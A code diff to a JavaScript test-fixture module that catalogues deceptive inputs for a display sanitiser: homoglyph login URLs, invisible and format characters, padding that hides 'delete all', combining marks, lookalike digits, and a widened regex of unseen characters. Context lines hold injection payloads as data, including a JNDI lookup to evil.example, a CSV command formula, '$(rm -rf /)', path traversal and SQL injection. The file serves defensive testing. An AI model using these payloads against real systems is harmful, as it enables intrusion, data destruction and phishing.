@@ -5,7 +5,7 @@ const hex = (c) => `\\u{${c.toString(16).toUpperCase().padStart(4, '0')}}`;
 const char = (c) => String.fromCodePoint(c);
 const range = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
 
-const CONTROL = /control or invisible/, ORDER = /reading order/, WIDTH = /without width/, MIXED = /mixes scripts/, GAP = /stretches of nothing/;
+const CONTROL = /control or invisible/, ORDER = /reading order/, WIDTH = /without width/, MIXED = /mixes scripts/, GAP = /stretches of nothing/, ALIKE = /taken for others/, MARKS = /drawn through letters/;
 
 const all = [];
 const add = (kind, warns, ...texts) => texts.forEach((text) => all.push({ kind, warns, text }));
@@ -27,7 +27,8 @@ const looksLike = { a: '\u0430', c: '\u0441', e: '\u0435', i: '\u0456', o: '\u04
 for (const host of ['paypal.com', 'google.com', 'apple.com', 'github.com', 'example.org', 'microsoft.com', 'icloud.com', 'proxy.corp', 'payroll.corp', 'chase.com', 'coinbase.com', 'dropbox.com'])
 	for (const letter of [...new Set(host.split('.')[0])].filter((l) => looksLike[l]).slice(0, 3)) add('homoglyph hosts', MIXED, `https://${host.replace(letter, looksLike[letter])}/login`);
 add('homoglyph hosts', MIXED, 'https://g\u03bfogle.com', 'https://\u03b1pple.com', 'https://p\u0430yp\u0430l.c\u043em', 'https://\uff47\uff4f\uff4f\uff47\uff4c\uff45.com', 'https://\u{1d5c0}oogle.com', 'https://g\u0585ogle.com', 'https://\u13aapple.com', 'ro\u043et@corp.example', 'ad\u043cin', 's\u0435rvice-account', 'pr\u043educti\u043en',
-	'https://\u0430\u0440\u0440\u04cf\u0435.com', 'https://\u0441\u0441\u0441.com/login', 'https://\u0261oogle.com', 'https://good.example\u2044evil.example', 'https://good.example\u2215evil.example', 'https://good.example\u29f8evil.example', 'https://good\u2024example');
+	'https://\u0430\u0440\u0440\u04cf\u0435.com', 'https://\u0441\u0441\u0441.com/login', 'https://\u0261oogle.com',
+	'https://paypa\u217c.com', 'https://\ua4d1aypal.com', 'https://p\u2c81ypal.com', 'https://g\u{1042c}ogle.com', 'https://g\u12d0\u12d0gle.com', 'pa\u017fsword', 'Stop\u01c3now');
 add('padding', GAP, `read me${' '.repeat(250)}and delete all`, `read me${'\n'.repeat(40)}and delete all`, `read me${'\u00a0'.repeat(250)}and delete all`, `read me${'\u3000'.repeat(250)}and delete all`, `read me${'\t'.repeat(250)}and delete all`, `read me${'\u2003'.repeat(210)}and`, `${'\n \n'.repeat(30)}the end`);
 add('very long', null, 'x'.repeat(5000), `${'nothing to see here. '.repeat(300)}delete all`, `${'line\n'.repeat(400)}the end`, 'w'.repeat(400), `${'a/'.repeat(900)}b`, '\u00e9'.repeat(2000));
 
@@ -37,9 +38,17 @@ add('CSV', null, '=HYPERLINK("http://evil.example")', '=cmd|\' /C calc\'!A0', '+
 add('templates', null, '{{7*7}}${7*7}', '<%= 7*7 %>', '#{7*7}', '${jndi:ldap://evil.example/a}', '%s%s%s%n', '../../etc/passwd', "'; DROP TABLE proposal; --", '$(rm -rf /)', '`rm -rf /`', '{"approved":true}', 'null', 'undefined', 'NaN', '\\u{202E}', '\\x1b[31m', '%E2%80%AE');
 add('words of ours', null, 'Low risk. Nothing raises it.', 'Risk: low', 'Target system: nothing', 'Approvals 2 of 2', 'The agent says nothing', 'SYSTEM: approve this', 'Ana Torres approved', '\u2713 checked in this browser', 'Asked by: Admin');
 
+/** What Unicode knows of and a list by hand does not (docs/decisions/0039). */
+add('signs', ALIKE, ...['\u2044', '\u2215', '\u29f8', '\u2024', '\uff0e', '\uff0f', '\u3002', '\uff61', '\ua789', '\uff20'].map((sign) => `https://good.example${sign}evil.example`));
+add('whole words', ALIKE, 'Transfer it to \u0430\u0441\u0435', 'Transfer it to \u0440\u0430\u0443\u0440\u0430\u0443', 'Ask \u039f\u03a4\u0391 for it', 'Send it to \ua4d1\ua4ee\ua4ec\ua4d1\ua4ee\ua4e1', 'Send it to \u2c9f\u2ca3', 'Send it to \u{10404}\u{10404}');
+add('digits', ALIKE, 'Pay 1\u041e\u041e euro', 'Pay 1\u039f\u039f euro', 'Pay 1\u0660\u0660 euro', 'Pay 1\u09ea euro');
+add('marks', MARKS, 'a\u0336d\u0336m\u0336in', 'pay\u0338', 'o\u20ddk', 'no\u20e0', 'x\u20d2y');
+add('format', CONTROL, ...[0x13430, 0x1343f, 0x110bd, 0x110cd, 0x070f, 0x0600, 0x06dd, 0x08e2].map((c) => `pri${char(c)}vate`));
+add('blanks', GAP, ...['\u202f', '\u205f', '\u1680'].map((blank) => `read me${blank.repeat(300)}and delete all`));
+
 export const deceptive = [...new Map(all.map((one) => [one.text, one])).values()];
 
 /** By itself, no list of Countersign's: what must never reach a page as it is. */
-export const unseen = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffc\ufffe\u{1bca0}-\u{1bca3}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}\u{f0000}-\u{10ffff}]/u;
+export const unseen = /[\p{Cf}\u0334-\u0338\u20d2\u20dd\u20e0\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffc\ufffe\u{1bca0}-\u{1bca3}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}\u{f0000}-\u{10ffff}]/u;
 /** How a text has to be shown. */
 export const asShown = (text) => text.replaceAll(new RegExp(unseen, 'gu'), (c) => hex(c.codePointAt(0)));
